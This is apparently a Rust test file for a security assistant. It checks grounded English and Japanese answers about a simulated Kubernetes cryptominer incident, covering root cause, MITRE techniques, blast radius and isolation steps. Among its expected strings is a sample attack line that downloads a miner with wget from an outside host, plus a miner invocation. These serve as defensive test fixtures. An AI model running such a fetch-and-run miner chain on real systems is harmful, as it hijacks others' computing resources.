//! The mission's questions (steps 2-10) in one session, in English and Japanese, with
//! deterministic answers (no generative model): each answer's sections hold the expected
//! facts, cite their evidence, suggest a filter selecting exactly that evidence, and
//! name nothing that is not in the evidence.

mod common;

use common::*;
use saker_assist::{AnswerPart, Intent, Lang, NarrativeSource, SectionBody};

const CTX: &str = "kubernetes.cluster.name = prod-eu-1";

struct Step {
    q_en: &'static str,
    q_ja: &'static str,
    intent: Intent,
}

const STEPS: &[Step] = &[
    Step {
        q_en: "Summarize the events of this cluster.",
        q_ja: "このクラスタのイベントを要約して",
        intent: Intent::Summarize,
    },
    Step {
        q_en: "Write a detailed investigation report.",
        q_ja: "詳細な調査レポートを書いて",
        intent: Intent::Report,
    },
    Step {
        q_en:
            "What was the root cause of the malicious binary detected in risk-10-aws-bedrock-java?",
        q_ja: "risk-10-aws-bedrock-javaで検知された悪意のあるバイナリの根本原因は？",
        intent: Intent::RootCause,
    },
    Step {
        q_en: "Which MITRE ATT&CK tactics and techniques were used?",
        q_ja: "使用されたMITRE ATT&CKの戦術と技術は？",
        intent: Intent::Mitre,
    },
    Step {
        q_en: "List the attack path.",
        q_ja: "攻撃パスを列挙して",
        intent: Intent::AttackPath,
    },
    Step {
        q_en: "How many workloads were affected?",
        q_ja: "影響を受けたワークロードはいくつ？",
        intent: Intent::BlastRadius,
    },
    Step {
        q_en: "How do I fix this?",
        q_ja: "どうやって修正すればいい？",
        intent: Intent::Remediate,
    },
    Step {
        q_en: "Give detailed guidance to isolate the affected resources.",
        q_ja: "影響を受けたリソースを隔離する詳細な手順を教えて",
        intent: Intent::Isolate,
    },
];

fn run(lang: Lang) {
    let ev = MemEvidence::new(mission());
    let a = plain();
    let session = format!("mission-{}", lang.code());
    for (k, st) in STEPS.iter().enumerate() {
        let q = match lang {
            Lang::En => st.q_en,
            Lang::Ja => st.q_ja,
        };
        // Step 1: the operator narrows the scope with a filter on the first question.
        let ctx = (k == 0).then_some(CTX);
        let (sum, got) = ask(&a, &ev, &session, q, ctx);
        assert_eq!(sum.intent, st.intent, "{q}");
        assert_eq!(sum.language, lang, "{q}");
        assert_eq!(sum.context_filter.as_deref(), Some(CTX), "{q}");
        assert_eq!(sum.narrative_source, NarrativeSource::Template);
        assert!(!sum.narrative.is_empty());
        let text = got.text();
        let all = format!("{text}\n{}", sum.narrative);
        assert_grounded(&all, &ev.alerts);

        // Every answer cites evidence, and every suggested filter selects exactly it.
        assert!(!sum.alert_ids.is_empty(), "{q}");
        assert!(!sum.filters.is_empty(), "{q}");
        let mut cited = sum.alert_ids.clone();
        cited.sort();
        for f in &sum.filters {
            assert_eq!(ev.select(&f.filter), cited, "{q}: filter {}", f.filter);
        }
        assert!(got
            .parts
            .iter()
            .any(|p| matches!(p, AnswerPart::Evidence { .. })));
        assert!(matches!(got.parts.last(), Some(AnswerPart::Done(_))));
        // Every row's alerts are among the cited ones (tables link back to the feed).
        for s in got.sections() {
            if let SectionBody::Table { rows, .. } = &s.body {
                for r in rows {
                    for id in &r.alert_ids {
                        assert!(ev.alerts.iter().any(|x| &x.id == id), "{q}: {id}");
                    }
                }
            }
        }
        check_step(st.intent, lang, &sum, &got, &text);
    }
}

fn check_step(
    intent: Intent,
    lang: Lang,
    sum: &saker_assist::AnswerSummary,
    got: &Collected,
    text: &str,
) {
    let attack = attack_ids(&mission());
    match intent {
        Intent::Summarize => {
            for p in [
                "Malicious Binary Detection",
                "Drift Detection",
                "Suspicious Activity",
            ] {
                assert!(text.contains(p), "{p}");
            }
            // 18 attack alerts + 150 host alerts; 4 workloads (3 pods and the host).
            assert!(text.contains("| 168 |"), "{text}");
            assert!(text.contains("/tmp/easyminer"));
            let ran = match lang {
                Lang::En => "ran ×3",
                Lang::Ja => "実行 ×3",
            };
            assert!(text.contains(ran), "{text}");
            assert!(text.contains(NS) && text.contains(NS2));
            assert_eq!(sum.alert_ids.len(), 168);
            if lang == Lang::Ja {
                assert!(text.contains("ポリシー別アラート"));
            } else {
                assert!(text.contains("Alerts by policy"));
            }
        }
        Intent::Report => {
            assert!(text.contains("sh ./malicious-bin-event-gen.sh"));
            assert!(text.contains("127.0.0.1:3333"));
            assert!(text.contains("wget http://203.0.113.7/easyminer -O /tmp/easyminer"));
            assert!(text.contains("T1496") && text.contains("Resource Hijacking"));
            assert!(text.contains(PODS[0]));
            // The attack's timeline comes before the host noise.
            let tl = got
                .sections()
                .iter()
                .position(|s| s.title.contains(NS))
                .expect("timeline");
            assert!(tl <= 1, "attack timeline is not first");
        }
        Intent::RootCause => {
            assert!(text.contains("sh ./malicious-bin-event-gen.sh"));
            assert!(text.contains("containerd-shim"));
            assert!(text.contains(NS));
            // Only the two incidents of the namespace.
            assert_eq!(sum.incident_ids.len(), 2);
            assert!(!text.contains(NS2), "{text}");
            assert!(sum
                .alert_ids
                .iter()
                .all(|i| i.starts_with("w1-") || i.starts_with("w2-")));
        }
        Intent::Mitre => {
            for t in ["T1059.004", "T1105", "T1222.002", "T1204.002", "T1496"] {
                assert!(text.contains(t), "{t}");
            }
            for n in [
                "Unix Shell",
                "Ingress Tool Transfer",
                "Resource Hijacking",
                "Impact",
                "Execution",
            ] {
                assert!(text.contains(n), "{n}");
            }
            // The host noise's technique is not part of this attack.
            assert!(!text.contains("T1003.008"));
            assert!(sum
                .notes
                .iter()
                .any(|n| n.contains("The MITRE Corporation")));
        }
        Intent::AttackPath => {
            let trees: Vec<_> = got
                .sections()
                .into_iter()
                .filter(|s| matches!(s.body, SectionBody::Tree { .. }))
                .collect();
            assert_eq!(trees.len(), 2);
            if let SectionBody::Tree { nodes } = &trees[0].body {
                assert_eq!(nodes.len(), 4);
                assert_eq!(nodes[0].label, "sh ./malicious-bin-event-gen.sh");
                assert!(nodes[0].parent_id.is_empty());
                assert!(nodes[1..].iter().all(|n| n.parent_id == nodes[0].id));
                assert!(nodes
                    .iter()
                    .any(|n| n.techniques.contains(&"T1496".to_string())));
            }
            assert!(text.contains("TA0040 Impact"));
        }
        Intent::BlastRadius => {
            assert_eq!(sum.incident_ids.len(), 3);
            for p in PODS {
                assert!(text.contains(p), "{p}");
            }
            for w in WORKLOADS {
                assert!(text.contains(w), "{w}");
            }
            assert!(text.contains("docker.io/acme/payments-api:2.0.1"));
            let total = match lang {
                Lang::En => "| Total | 3 |",
                Lang::Ja => "| 合計 | 3 |",
            };
            assert!(text.contains(total), "{text}");
            assert!(!text.contains("backup-agent"));
            assert_eq!(sum.alert_ids, attack_ids(&mission()));
        }
        Intent::Remediate => {
            for p in PODS {
                assert!(text.contains(&format!("delete pod {p}")), "{p}");
            }
            assert!(text.contains(&format!("kubectl -n {NS} delete pod {}", PODS[0])));
            assert!(text.contains("docker.io/acme/bedrock-java:1.4.2"));
            assert!(text.contains("readOnlyRootFilesystem"));
            assert!(text.contains("M1037"), "MITRE mitigations for T1105");
            assert_eq!(sum.alert_ids, attack);
        }
        Intent::Isolate => {
            assert!(text.contains("kind: NetworkPolicy"));
            assert!(text.contains(&format!("namespace: {NS}")));
            assert!(text.contains(&format!("namespace: {NS2}")));
            assert!(text.contains("app: \"bedrock-java\""));
            assert!(text.contains("- Egress"));
            assert!(text.contains("kubectl cordon node-a"));
            assert!(text.contains(&format!(
                "kubectl -n {NS} scale deployment/bedrock-java --replicas=0"
            )));
            assert!(text.contains(MINER_SHA));
            assert!(!text.contains("io.kubernetes.pod.name"));
            // Evidence comes first.
            let order: Vec<&str> = got.sections().iter().map(|s| s.title.as_str()).collect();
            let ev_ix = order
                .iter()
                .position(|t| t.starts_with("1."))
                .expect("evidence stage");
            let net_ix = order
                .iter()
                .position(|t| t.starts_with("2."))
                .expect("network stage");
            assert!(ev_ix < net_ix);
        }
        _ => unreachable!(),
    }
}

#[test]
fn eight_questions_in_english() {
    run(Lang::En);
}

#[test]
fn eight_questions_in_japanese() {
    run(Lang::Ja);
}

#[test]
fn namespace_context_still_sees_the_whole_blast_radius() {
    let ev = MemEvidence::new(mission());
    let a = plain();
    let ns = format!("k8s.ns.name = {NS}");
    let (sum, got) = ask(
        &a,
        &ev,
        "ns",
        "How many workloads were affected?",
        Some(&ns),
    );
    assert_eq!(sum.intent, Intent::BlastRadius);
    let text = got.text();
    assert!(text.contains("| Total | 3 |"), "{text}");
    assert!(text.contains(PODS[2]));
}

#[test]
fn blocked_and_ran_binaries_are_told_apart() {
    let mut alerts = mission();
    let blocked = Payload {
        prevented: true,
        ..Payload::benign_looking()
    };
    let wl = workloads();
    // A fourth run in the first workload, blocked by drift prevention an hour later.
    alerts.extend(chain(
        "w9",
        &wl[0],
        9000,
        T0 + 3 * 3600 * SEC,
        9000,
        &blocked,
    ));
    let ev = MemEvidence::new(alerts);
    let (_, got) = ask(&plain(), &ev, "", "Summarize the alerts", None);
    let text = got.text();
    assert!(text.contains("blocked ×1, ran ×3"), "{text}");
    assert!(text.contains("| Blocked alerts | 1 |"), "{text}");
}

#[test]
fn skip_narrative_and_empty_scope() {
    let ev = MemEvidence::new(mission());
    let a = plain();
    let mut parts = Vec::new();
    let sum = a
        .ask_with(
            &ev,
            &saker_assist::AskRequest {
                session: "",
                question: "Summarize the alerts",
                context_filter: Some("k8s.ns.name = does-not-exist"),
                skip_narrative: true,
                ..Default::default()
            },
            &mut |p| parts.push(p),
        )
        .unwrap();
    assert!(sum.narrative.is_empty());
    assert!(!parts.iter().any(|p| matches!(p, AnswerPart::TextDelta(_))));
    assert!(sum.sections[0].markdown().contains("No alerts"));
    // A broken context filter is the caller's error.
    let err = a.ask(&ev, "", "Summarize", Some("k8s.ns.name = "), &mut |_| {});
    assert!(matches!(
        err,
        Err(saker_assist::AssistError::InvalidFilter(_))
    ));
    assert!(matches!(
        a.ask(&ev, "", "  ", None, &mut |_| {}),
        Err(saker_assist::AssistError::EmptyQuestion)
    ));
}

#[test]
fn unknown_questions_get_the_capability_list() {
    let ev = MemEvidence::new(mission());
    let (sum, got) = ask(&plain(), &ev, "", "What's the weather like in Tokyo?", None);
    assert_eq!(sum.intent, Intent::Unknown);
    let text = got.text();
    assert!(text.contains("What I can answer"));
    assert!(text.contains("Find the root cause"));
    assert!(sum.alert_ids.is_empty());
    let (sum, got) = ask(&plain(), &ev, "", "今日の天気は？", None);
    assert_eq!(sum.intent, Intent::Unknown);
    assert!(got.text().contains("回答できる質問"));
}

#[test]
fn explain_an_alert() {
    let ev = MemEvidence::new(mission());
    let a = plain();
    let mut c = Collected::default();
    let sum = a
        .explain(&ev, "w1-miner", &mut |p| c.parts.push(p))
        .unwrap();
    assert_eq!(sum.intent, Intent::ExplainAlert);
    let text = c.text();
    assert!(text.contains("Malware - Known Cryptominer Executed"));
    assert!(text.contains("/tmp/easyminer --url stratum+tcp://127.0.0.1:3333"));
    assert!(text.contains("T1496 Resource Hijacking"));
    assert!(
        text.contains("sh ./malicious-bin-event-gen.sh"),
        "incident root cause"
    );
    assert!(text.contains(MINER_SHA));
    assert_eq!(sum.alert_ids.len(), 6, "the alerts of its incident");
    assert_grounded(&format!("{text}\n{}", sum.narrative), &ev.alerts);
    // Asked by id in a question, too.
    let (s2, _) = ask(&a, &ev, "", "explain alert w2-chmod", None);
    assert_eq!(s2.intent, Intent::ExplainAlert);
    assert!(s2.sections[0].markdown().contains("w2-chmod"));
    assert!(matches!(
        a.explain(&ev, "nope", &mut |_| {}),
        Err(saker_assist::AssistError::AlertNotFound(_))
    ));
}

#[test]
fn count_and_list() {
    let ev = MemEvidence::new(mission());
    let a = plain();
    let (s, got) = ask(
        &a,
        &ev,
        "",
        "How many alerts are in risk-11-payments?",
        None,
    );
    assert_eq!(s.intent, Intent::Count);
    assert!(got.text().contains("| Total | 6 |"), "{}", got.text());
    assert_eq!(s.filters[0].filter, "k8s.ns.name = \"risk-11-payments\"");
    let (s, got) = ask(
        &a,
        &ev,
        "",
        "List the alerts of the Drift Detection policy",
        None,
    );
    assert_eq!(s.intent, Intent::ListEvents);
    assert!(got
        .text()
        .contains("Drift - Binary Executed From Container Upper Layer"));
    assert_eq!(ev.select(&s.filters[0].filter).len(), 6);
}
